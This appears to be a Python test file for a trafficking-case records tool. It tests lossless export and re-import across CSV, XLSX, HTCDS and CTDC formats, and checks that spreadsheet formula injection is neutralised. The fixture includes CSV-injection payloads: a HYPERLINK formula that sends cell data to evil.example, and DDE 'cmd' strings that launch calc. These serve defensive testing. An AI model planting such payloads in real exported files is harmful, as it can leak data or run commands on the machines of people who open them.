"""Export → import is lossless: a synthetic world survives CSV, XLSX and HTCDS; CTDC reads back."""

from __future__ import annotations

import filecmp
from collections import Counter

import pytest

from uncounted.ingest import import_file, validate_file
from uncounted.ingest.export import export_records
from uncounted.simulate import WorldConfig, simulate_world
from uncounted.store.bulk import insert_frames

from .conftest import TODAY


@pytest.fixture(scope="module")
def world():
    return simulate_world(WorldConfig(seed=11, n_victims=60))


def _same_folders(a, b) -> None:
    names = sorted(p.name for p in a.iterdir())
    assert names == sorted(p.name for p in b.iterdir())
    for name in names:
        assert filecmp.cmp(a / name, b / name, shallow=False), name


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_world_round_trips(engine, tmp_path, world, fmt, _template):
    import shutil

    from uncounted.store.db import make_engine

    insert_frames(engine, world.frames)
    first = tmp_path / "first"
    export_records(engine, first, "csv")
    if fmt == "xlsx":
        files = export_records(engine, tmp_path / "all.xlsx", "xlsx")
    else:
        files = sorted(first.iterdir())
    again = import_file(engine, files[0], today=TODAY) if fmt == "xlsx" else None
    if again is not None:  # the same records again change nothing
        assert again.rows_created == again.rows_updated == 0
    shutil.copyfile(_template, tmp_path / "fresh.sqlite")
    fresh = make_engine(f"sqlite:///{tmp_path / 'fresh.sqlite'}")
    if fmt == "xlsx":  # a dry run of the whole workbook resolves references between sheets
        assert validate_file(fresh, files[0], today=TODAY).rejected == []
        import_file(fresh, files[0], today=TODAY)
    else:
        from uncounted.ingest.records import LOAD_ORDER

        by_name = {p.stem: p for p in files}
        for name in LOAD_ORDER:
            import_file(fresh, by_name[name], today=TODAY)
    second = tmp_path / "second"
    export_records(fresh, second, "csv")
    fresh.dispose()
    _same_folders(first, second)


def test_htcds_export_imports_back_with_the_htcds_mapping(loaded, tmp_path):
    out = tmp_path / "htcds"
    files = export_records(loaded, out, "htcds", ["persons", "cases"])
    assert [p.name for p in files] == ["cases.csv", "persons.csv"]
    header = files[1].read_text("utf-8").splitlines()[0].split(",")
    assert header[:4] == ["prs_ID", "prs_SourceOrganisation", "prs_Gender", "prs_BirthYear"]
    assert "vic_MethodsOfControl" in header and "per_RoleInProcess" in header
    assert "Perpetrator" in files[1].read_text("utf-8")
    for path in files:
        result = import_file(loaded, path, mapping="htcds", today=TODAY)
        assert result.rows_created == result.rows_updated == 0, result.rejected


CTDC_CURRENT = (
    "yearOfRegistration,Datasource,gender,ageBroad,majorityStatus,majorityStatusAtExploit,"
    "citizenship,CountryOfExploitation,meansOfControlDebtBondage,meansOfControlPsychoactiveSubsta,"
    "isForcedLabour,isSexualExploit,typeOfLabourAgriculture,typeOfSexProstitution,"
    "recruiterRelationFamily\n"
    "2019,Case Management,Female,18--20,Adult,Minor,PHL,MY,1,0,0,1,0,1,1\n"
    "2020,Hotline,Male,30--38,Adult,Adult,KH,TH,-99,1,1,0,1,0,0\n"
)
CTDC_OLDER = CTDC_CURRENT.replace(
    "meansOfControlPsychoactiveSubsta", "meansOfControlPsychoactiveSubstances"
)


@pytest.mark.parametrize("text", [CTDC_CURRENT, CTDC_OLDER], ids=["current", "older"])
def test_ctdc_public_dataset_in_and_out(engine, write, tmp_path, text):
    path = write("ctdc.csv", text)  # no agency invented: the data hub CTDC is created
    result = import_file(engine, path, mapping="ctdc", today=TODAY)
    assert (result.rows_created, result.rejected) == (4, [])  # 2 cases + 2 victims
    assert result.ignored_columns == ("Datasource",)  # ageBroad, majorityStatus are kept
    (out,) = export_records(engine, tmp_path / "ctdc_out.csv", "ctdc")
    lines = out.read_text("utf-8").splitlines()
    header = lines[0].split(",")
    rows = [dict(zip(header, line.split(","), strict=True)) for line in lines[1:]]
    first, second = rows
    assert (first["yearOfRegistration"], first["gender"], first["citizenship"]) == (
        "2019",
        "Female",
        "PH",
    )
    assert (first["CountryOfExploitation"], first["majorityStatusAtExploit"]) == ("MY", "Minor")
    assert (first["ageBroad"], first["majorityStatus"]) == ("18--20", "Adult")
    assert first["meansOfControlDebtBondage"] == "1" and first["isSexualExploit"] == "1"
    assert first["typeOfSexProstitution"] == "1" and first["recruiterRelationFamily"] == "1"
    assert second["meansOfControlPsychoactiveSubstances"] == "1"
    assert second["isForcedLabour"] == "1" and second["typeOfLabourAgriculture"] == "1"
    again = import_file(engine, out, mapping="ctdc", today=TODAY)
    assert again.rows_created == 0 and again.rows_updated == 0


#: Identifying values that spreadsheets would run as formulas, and one real leading apostrophe.
FORMULAS = {
    "given_name": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "family_name": "+cmd|' /C calc'!A0",
    "other_names": "'quoted by its owner",
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "-2+3",
}


def _plant_formulas(engine) -> None:
    from sqlalchemy import select

    from uncounted.store.db import session_scope
    from uncounted.store.tables import Case, Person, PersonIdentity

    with session_scope(engine) as s:
        pid = s.scalar(select(Person.id).where(Person.external_id == "P1"))
        ident = s.get(PersonIdentity, pid)
        for name, value in FORMULAS.items():
            setattr(ident, name, value)
        s.scalar(select(Case).where(Case.external_id == "C1")).reference = "=1+2"


def _identities(engine) -> dict[str, str]:
    from sqlalchemy import select

    from uncounted.store.db import session_scope
    from uncounted.store.tables import Person, PersonIdentity

    with session_scope(engine) as s:
        ident = s.scalar(select(PersonIdentity).join(Person).where(Person.external_id == "P1"))
        return {name: getattr(ident, name) for name in FORMULAS}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formulas_are_neutralised_and_round_trip(loaded, tmp_path, _template, fmt):
    """Issue #15, item 7: ``=HYPERLINK(...)`` and ``+cmd|...`` went out verbatim (a live formula
    in XLSX). Now they go out quoted, and export → import into an empty store → export changes
    nothing, a real leading apostrophe included."""
    import csv
    import shutil

    import openpyxl

    from uncounted.ingest.records import LOAD_ORDER
    from uncounted.store.db import make_engine

    _plant_formulas(loaded)
    first = tmp_path / "first"
    export_records(loaded, first, "csv")
    with (first / "persons.csv").open(newline="", encoding="utf-8") as handle:
        p1 = next(r for r in csv.DictReader(handle) if r["external_id"] == "P1")
    assert p1["given_name"] == "'" + FORMULAS["given_name"]
    assert p1["family_name"] == "'" + FORMULAS["family_name"]
    assert p1["other_names"] == "''quoted by its owner"
    assert p1["birth_year"] == ""
    with (first / "cases.csv").open(newline="", encoding="utf-8") as handle:
        assert {r["reference"] for r in csv.DictReader(handle)} >= {"'=1+2"}
    if fmt == "xlsx":
        (book_path,) = export_records(loaded, tmp_path / "all.xlsx", "xlsx")
        book = openpyxl.load_workbook(book_path)
        cells = [c for row in book["persons"].iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula
        assert "'" + FORMULAS["given_name"] in {c.value for c in cells}
        files = [book_path]
    else:
        by_name = {p.stem: p for p in first.iterdir()}
        files = [by_name[name] for name in LOAD_ORDER if name in by_name]
    shutil.copyfile(_template, tmp_path / "fresh.sqlite")
    fresh = make_engine(f"sqlite:///{tmp_path / 'fresh.sqlite'}")
    for path in files:
        result = import_file(fresh, path, today=TODAY)
        assert result.rejected == [], result.rejected
    assert _identities(fresh) == FORMULAS
    second = tmp_path / "second"
    export_records(fresh, second, "csv")
    fresh.dispose()
    _same_folders(first, second)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'", "''"),
        ("'ok", "''ok"),
        ("''=x", "'''=x"),
        ("-3", "-3"),  # numbers stay numbers
        ("-1.5", "-1.5"),
        ("+2", "+2"),
        ("-1e5", "-1e5"),
        ("-99", "-99"),
        ("Ana", "Ana"),
        ("", ""),
    ],
)
def test_quote_rule_is_reversible(value, written):
    from uncounted.ingest.formulas import quote_cell, unquote_cell

    assert quote_cell(value) == written
    assert unquote_cell(written) == value


def test_apostrophe_of_other_files_is_data():
    from uncounted.ingest.formulas import unquote_cell

    assert unquote_cell("'hello") == "'hello"
    assert unquote_cell("'-3") == "'-3"
    assert unquote_cell("'=1") == "=1"


#: Tables an import does not fill: sign-ins, the audit trail and the import log (a backup
#: carries them; see tests/store/test_backup.py), and reviewers' linkage decisions.
NOT_RECORDS = {
    "users",
    "audit_events",
    "import_batches",
    "linkage_decisions",
    "web_sessions",
    "password_resets",
    "sign_in_throttle",
    # due-diligence partner registers and statement scores have their own import
    # (`uncounted partners import`, tests/duediligence) and travel in backups (tests/store)
    "dd_partners",
    "dd_sourcing",
    "dd_statement_scores",
    # case notes are encrypted free text written on the case page, not an import type; and
    # deleted/merged records are the administrators' working state: both travel in backups
    "case_notes",
    "record_removals",
}
#: Columns that say when a row was written, not what it holds.
WHEN_WRITTEN = {"created_at", "updated_at"}


def _canonical(engine) -> dict[str, Counter]:
    """Every table's rows without database ids: a foreign key becomes the row it points to.

    Two stores hold the same records exactly when these are equal, whatever ids each gave.
    """
    from sqlalchemy import select

    from uncounted.store.tables import Base

    out: dict[str, Counter] = {}
    rows_of: dict[str, dict[object, tuple]] = {}
    with engine.connect() as conn:
        for table in Base.metadata.sorted_tables:
            refs = {
                fk.parent.name: fk.column.table.name for fk in table.foreign_keys
            }  # column -> table it points to
            keep = [c for c in table.c if c.name != "id" and c.name not in WHEN_WRITTEN]
            by_id: dict[object, tuple] = {}
            rows = Counter()
            for row in conn.execute(select(table)).mappings():
                values = tuple(
                    (
                        c.name,
                        rows_of[refs[c.name]].get(row[c.name])
                        if c.name in refs and refs[c.name] in rows_of
                        else repr(row[c.name]),
                    )
                    for c in keep
                )
                rows[values] += 1
                if "id" in table.c:
                    by_id[row["id"]] = values
            rows_of[table.name] = by_id
            out[table.name] = rows
    return out


UNKNOWN_SUSPECTS = (
    "external_id,case,stage,occurred_on,jurisdiction,agency\n"
    "EV-UNKNOWN-1,{case},report,2024-02-01,{place},{agency}\n"
    "EV-UNKNOWN-2,{case},investigation,2024-02-10,{place},{agency}\n"
)


@pytest.mark.parametrize(
    "target", ["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)]
)
def test_every_table_round_trips_into_an_empty_store(
    engine, tmp_path, world, write, _template, target, request
):
    """Export everything, import it into an empty store (SQLite or PostgreSQL): every record
    table holds the same rows (ids aside), including shares and an event against persons
    unknown."""
    import shutil

    from uncounted.ingest.records import LOAD_ORDER
    from uncounted.store.db import make_engine
    from uncounted.store.tables import Base

    insert_frames(engine, world.frames)
    cases = world.frames["cases"].sort("id")
    ag = world.frames["agencies"]
    agencies = dict(zip(ag["id"], ag["code"], strict=True))
    first = cases.row(0, named=True)
    source = agencies[first["source_agency_id"]]
    share = f"case,agency,shared_on\n{first['external_id']},NGO-SEA,2025-01-02\n"
    shared = import_file(engine, write("case_shares.csv", share), source=source, today=TODAY)
    assert (shared.rows_created, shared.rejected) == (1, [])
    complaint = UNKNOWN_SUSPECTS.format(case=first["external_id"], place="PH", agency=source)
    unknown = import_file(
        engine, write("justice_events.csv", complaint), source=source, today=TODAY
    )
    assert (unknown.rows_created, unknown.rejected) == (2, [])

    folder = tmp_path / "out"
    files = {p.stem: p for p in export_records(engine, folder, "csv")}
    assert list(files) == list(LOAD_ORDER)
    if target == "sqlite":
        shutil.copyfile(_template, tmp_path / "fresh.sqlite")
        fresh = make_engine(f"sqlite:///{tmp_path / 'fresh.sqlite'}")
    else:
        from uncounted.store.db import upgrade

        fresh = make_engine(request.getfixturevalue("fresh_postgres_url"))
        upgrade(fresh)
    try:
        for name in LOAD_ORDER:
            result = import_file(fresh, files[name], today=TODAY)
            assert result.rejected == [], (name, result.rejected[:3])
        before, after = _canonical(engine), _canonical(fresh)
    finally:
        fresh.dispose()
    tables = [t.name for t in Base.metadata.sorted_tables if t.name not in NOT_RECORDS]
    for name in tables:
        assert after[name] == before[name], name
    counts = {name: sum(before[name].values()) for name in tables}
    assert all(counts.values()), counts  # every table had rows to carry
    assert counts["case_shares"] == 1 and counts["case_links"] == 2
    ev = Base.metadata.tables["justice_events"]
    with engine.connect() as conn:
        from sqlalchemy import func, select

        nobody = conn.execute(
            select(func.count()).select_from(ev).where(ev.c.person_id.is_(None))
        ).scalar_one()
    assert nobody == 2


def test_htcds_files_are_recognised_without_a_mapping(engine, tmp_path, world):
    """An HTCDS export (folder or workbook) imports back unchanged with no --mapping, and a
    file named after nothing is read as the record type its HTCDS columns describe."""
    insert_frames(engine, world.frames)
    files = export_records(engine, tmp_path / "htcds", "htcds")
    assert [p.stem for p in files] == [
        "cases",
        "persons",
        "case_jurisdictions",
        "case_links",
        "case_shares",
        "aftercare_steps",
    ]
    links = (tmp_path / "htcds" / "case_links.csv").read_text("utf-8").splitlines()[0]
    assert links.split(",") == [
        "cas_SourceOrganisation",
        "cas_ID",
        "cas_CaseSourceOrganisation",
        "cas_LinkedCaseID",
        "cas_LinkedCaseSourceOrganisation",
        "cas_LinkKind",
    ]
    for path in files:
        result = import_file(engine, path, today=TODAY)
        assert (result.rows_created, result.rows_updated, result.rejected) == (0, 0, []), path
        assert result.rows_unchanged > 0 or path.stem == "case_shares", path
    renamed = tmp_path / "victims from partner.csv"
    renamed.write_bytes((tmp_path / "htcds" / "aftercare_steps.csv").read_bytes())
    again = import_file(engine, renamed, today=TODAY)
    assert again.record_types == ("aftercare_steps",)
    assert (again.rows_unchanged, again.rows_created) == (world.frames["aftercare_steps"].height, 0)
    (book,) = export_records(engine, tmp_path / "htcds.xlsx", "htcds")
    whole = import_file(engine, book, today=TODAY)
    assert whole.record_types[:2] == ("cases", "persons")
    assert (whole.rows_created, whole.rows_updated, whole.rejected) == (0, 0, [])
